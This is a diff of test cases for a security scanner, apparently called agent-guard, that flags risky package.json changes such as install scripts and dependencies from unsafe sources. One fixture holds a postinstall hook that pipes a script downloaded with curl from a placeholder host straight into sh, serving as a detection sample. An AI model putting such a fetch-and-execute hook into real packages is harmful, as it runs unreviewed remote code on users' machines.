@@ -54,7 +54,8 @@ describe('agent-guard diff: dependency acceptance', () => {
 
   it('package.json adding a postinstall: high', () => {
     const { status, findings } = diff('postinstall', { 'package.json': pkg({}) }, { 'package.json': pkg({}, { scripts: { postinstall: 'node ./setup.js' } }) });
-    assert.deepEqual(findings.map((f) => [f.ruleId, f.severity, f.range.startLine]), [['dependencies/install-script', 'high', 5]]);
+    // The install hook is the dependency finding; the scripts block is also announced as a sensitive-file change.
+    assert.deepEqual(findings.map((f) => [f.ruleId, f.severity, f.range.startLine]), [['files/sensitive-path-change', 'medium', 4], ['dependencies/install-script', 'high', 5]]);
     assert.equal(status, 1);
   });
 
@@ -90,7 +91,8 @@ describe('agent-guard diff: dependency acceptance', () => {
     writeFileSync(path.join(root, 'package.json'), pkg({ thing: 'github:someone/thing' }, { scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } }));
     const run = spawnSync(process.execPath, [cli, 'scan', root, '--format', 'json'], { encoding: 'utf8' });
     const ids = (JSON.parse(run.stdout) as { findings: JsonFinding[] }).findings.map((f) => f.ruleId).sort();
-    assert.deepEqual(ids, ['dependencies/install-script', 'dependencies/unsafe-source']);
+    // The downloading install script is also what files/download-and-execute reports (category sensitive-file).
+    assert.deepEqual(ids, ['dependencies/install-script', 'dependencies/unsafe-source', 'files/download-and-execute']);
     assert.equal(run.status, 1);
   });
 });
